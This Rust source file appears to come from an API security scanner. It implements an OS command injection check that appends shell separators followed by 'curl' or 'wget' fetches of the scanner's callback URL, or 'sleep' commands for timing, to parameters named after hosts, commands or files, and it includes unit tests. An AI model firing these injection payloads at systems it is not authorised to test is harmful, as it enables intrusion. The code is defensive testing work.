//! OS command injection: a parameter that reaches a shell runs a command nat appended.
//!
//! Only slots whose name says a command or a host, address or file goes there (`host`, `ip`,
//! `domain`, `cmd`, `command`, `exec`, `file`, `path`, …): each gets the shell's separators and
//! substitutions (`;`, `|`, `&&`, `$( )`, backquotes, a newline) followed by an HTTP fetch of nat's
//! callback URL (`curl`, else `wget`), one token per payload. A hit proves it (`certain`). Without a
//! hit, where the value was accepted (2xx), a time differential: `; sleep 2` and `; sleep 4`
//! answered at least that much slower than the baseline and 2 s apart (±0.8 s), and `; sleep 2`
//! once more (`firm`). At most ~10 s of sleeping per slot, and only for the user's own requests.

use super::{Applies, Check, CheckMeta};
use crate::engine::{ScanContext, Target};
use crate::findings::{Confidence, Evidence, Finding, RiskFactors, Severity};
use crate::http::{Exchange, Who};
use crate::oob::Probe;
use crate::synth::{param_string, Slot};
use async_trait::async_trait;
use serde_json::Value;
use std::time::Duration;

/// The check.
pub struct CommandInjection;

/// What the check is.
pub static META: CheckMeta = CheckMeta {
    id: "NAT-INJ-COMMAND",
    title: "Injection: OS command injection",
    short_title: "OS command injection",
    owasp: "API8",
    cwe: "CWE-78",
    severity: Severity::Critical,
    confidence: Confidence::Certain,
    description: "Input reaches a shell command line: a command appended after a shell separator ran \
                  on the server (it fetched nat's callback URL, or slept as long as it was told).",
    remediation: "Never build shell command lines from input: call programs directly with an argument \
                  list (no shell), validate values against a strict allow-list (a host name pattern, \
                  an enum), and run the service with the least privileges.",
};

/// Words of a slot name that say its value reaches a command line.
const SHELL_WORDS: &[&str] = &[
    "host", "hostname", "ip", "addr", "address", "domain", "cmd", "command", "exec", "execute",
    "shell", "ping", "dns", "lookup", "file", "filename", "path", "dir", "folder", "archive",
    "script", "args", "arg", "target",
];
/// Most slots probed per operation.
const MAX_SLOTS: usize = 3;
/// How long nat waits for one payload's callback (a shell that runs the command before answering
/// has called back by then; later callbacks are caught at the end of the scan).
const WAIT: Duration = Duration::from_millis(20);
/// Words of a slot name for which the time differential is tried too: a command or a host, not a
/// file (file names are common, and every try costs seconds).
const TIMED_WORDS: &[&str] = &[
    "host", "hostname", "ip", "addr", "address", "domain", "cmd", "command", "exec", "execute",
    "shell", "ping", "dns", "lookup",
];
/// The two sleeps of the time differential, in seconds.
const SLEEPS: (u64, u64) = (2, 4);
/// How far the difference of the two answers may be from the difference of the sleeps.
const TOLERANCE_MS: u64 = 800;

/// True for a slot whose name says a command, host, address or file goes there.
pub fn reaches_shell(slot: &Slot) -> bool {
    let name = match slot {
        Slot::Param(_, n) | Slot::BodyField(n) => n,
    };
    crate::spec::words(name)
        .iter()
        .any(|w| SHELL_WORDS.contains(&w.as_str()))
}

/// The payloads fetching `url`: each separator or substitution with `curl`.
fn payloads(base: &str, url: &str) -> Vec<String> {
    vec![
        format!("{base};curl {url}"),
        format!("{base}|curl {url}"),
        format!("{base}&&curl {url}"),
        format!("{base}$(curl {url})"),
        format!("{base}`curl {url}`"),
        format!("{base}\ncurl {url}"),
        format!("{base};wget -q -O- {url}"),
    ]
}

/// Whether answers to `sleep a` and `sleep b` (a < b) took as long as told, beyond the baseline.
pub fn slept(baseline_ms: u64, short_ms: u64, long_ms: u64) -> bool {
    let (a, b) = (SLEEPS.0 * 1000, SLEEPS.1 * 1000);
    let margin = 200;
    short_ms + margin >= baseline_ms + a
        && long_ms + margin >= baseline_ms + b
        && (long_ms.saturating_sub(short_ms)).abs_diff(b - a) <= TOLERANCE_MS
}

#[async_trait]
impl Check for CommandInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn applies(&self, target: &Target<'_>) -> Applies {
        super::ensure(
            target
                .probe_slots()
                .iter()
                .any(|(slot, _)| reaches_shell(slot)),
            "no parameter or body field names a command, host, address or file",
        )?;
        super::baseline_answered(target)
    }

    async fn run(&self, ctx: &ScanContext, target: &Target<'_>) -> Vec<Finding> {
        let slots: Vec<Slot> = target
            .probe_slots()
            .into_iter()
            .map(|(s, _)| s)
            .filter(reaches_shell)
            .take(MAX_SLOTS)
            .collect();
        let factors = RiskFactors {
            unauthenticated: !target.op.requires_auth(),
            state_changing: target.op.is_state_changing(),
        };
        let mut findings = Vec::new();
        for slot in slots {
            if ctx.should_stop() {
                break;
            }
            let base = param_string(&target.values.get(&slot).cloned().unwrap_or(Value::Null));
            let send = |value: String| {
                let req = target
                    .values
                    .with(&slot, Value::String(value))
                    .render(target.op);
                async move { ctx.send(&Who::User, &req).await }
            };
            let mut accepted = false;
            let mut proven = false;
            if let Some(listener) = ctx.callback.as_deref() {
                for i in 0..payloads(&base, "").len() {
                    if ctx.should_stop() {
                        break;
                    }
                    let token = listener.register(Probe {
                        check: META.id,
                        operation: target.op.endpoint(),
                        slot: slot.describe(),
                        payload: String::new(),
                        identity: "user".into(),
                    });
                    let url = listener.url_for(&token);
                    let payload = payloads(&base, &url).swap_remove(i);
                    let ex = send(payload.clone()).await;
                    listener.attach(&token, ctx.evidence(&ex));
                    accepted |= ex.is_success();
                    if ex.is_success() {
                        listener.note_pending();
                    }
                    let wait = if ex.is_success() {
                        WAIT
                    } else {
                        Duration::ZERO
                    };
                    if let Some(hit) = listener.wait_for(&token, wait).await {
                        listener.claim(&token);
                        let mut evidence = ctx.evidence(&ex);
                        evidence.response.push_str(&format!(
                            "\n\n# the callback listener received, from the target:\n{}",
                            hit.describe()
                        ));
                        findings.push(META.finding(
                            target,
                            META.severity,
                            &slot.describe(),
                            evidence,
                            factors,
                        ));
                        proven = true;
                        break;
                    }
                }
            }
            if proven || ctx.should_stop() {
                continue;
            }
            // No callback (none possible, or egress blocked): how long the answers take, for
            // slots that name a command or a host.
            let timed = match &slot {
                Slot::Param(_, n) | Slot::BodyField(n) => crate::spec::words(n)
                    .iter()
                    .any(|w| TIMED_WORDS.contains(&w.as_str())),
            };
            if !timed || (!accepted && ctx.callback.is_some()) {
                continue;
            }
            let baseline_ms = target.baseline.elapsed_ms;
            let sleep = |n: u64| send(format!("{base};sleep {n}"));
            let short = sleep(SLEEPS.0).await;
            if short.elapsed_ms + 200 < baseline_ms + SLEEPS.0 * 1000 {
                continue;
            }
            let long = sleep(SLEEPS.1).await;
            if !slept(baseline_ms, short.elapsed_ms, long.elapsed_ms) {
                continue;
            }
            let again = sleep(SLEEPS.0).await;
            if !slept(baseline_ms, again.elapsed_ms, long.elapsed_ms) {
                continue;
            }
            findings.push(
                META.finding(
                    target,
                    META.severity,
                    &slot.describe(),
                    timed_evidence(ctx, baseline_ms, &[&short, &long, &again]),
                    factors,
                )
                .with_confidence(Confidence::Firm),
            );
        }
        findings
    }

    fn uses_callback(&self) -> bool {
        true
    }
}

fn timed_evidence(ctx: &ScanContext, baseline_ms: u64, exchanges: &[&Exchange]) -> Evidence {
    let labels = [
        format!("`sleep {}` appended", SLEEPS.0),
        format!("`sleep {}` appended", SLEEPS.1),
        format!("`sleep {}` again", SLEEPS.0),
    ];
    let parts: Vec<(String, &Exchange)> = labels
        .iter()
        .zip(exchanges)
        .map(|(l, ex)| (format!("{l}: answered in {} ms", ex.elapsed_ms), *ex))
        .collect();
    let refs: Vec<(&str, &Exchange)> = parts.iter().map(|(l, e)| (l.as_str(), *e)).collect();
    let mut evidence = ctx.labelled_evidence(&refs);
    evidence.request = format!(
        "# the baseline answered in {baseline_ms} ms\n{}",
        evidence.request
    );
    evidence
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::ParamLocation;

    #[test]
    fn slots_that_may_reach_a_shell() {
        let b = |n: &str| Slot::BodyField(n.into());
        for (name, yes) in [
            ("host", true),
            ("command", true),
            ("ip_address", true),
            ("fileName", true),
            ("bio", false),
            ("title", false),
            ("hostel", false),
        ] {
            assert_eq!(reaches_shell(&b(name)), yes, "{name}");
        }
        assert!(reaches_shell(&Slot::Param(
            ParamLocation::Query,
            "domain".into()
        )));
    }

    #[test]
    fn a_time_differential_needs_both_sleeps_in_proportion() {
        // Baseline 50 ms; 2 s and 4 s more: slept.
        assert!(slept(50, 2060, 4070));
        // Slow all the time (a slow endpoint, not a sleep): the difference is not 2 s.
        assert!(!slept(50, 4100, 4200));
        // Not slower than the baseline by the sleep.
        assert!(!slept(3000, 2100, 4100));
        // Only the long one slow.
        assert!(!slept(50, 100, 4100));
    }

    #[test]
    fn every_payload_carries_the_url_once() {
        for p in payloads("127.0.0.1", "http://l/nat/t") {
            assert_eq!(p.matches("http://l/nat/t").count(), 1, "{p}");
            assert!(p.starts_with("127.0.0.1"));
        }
    }
}
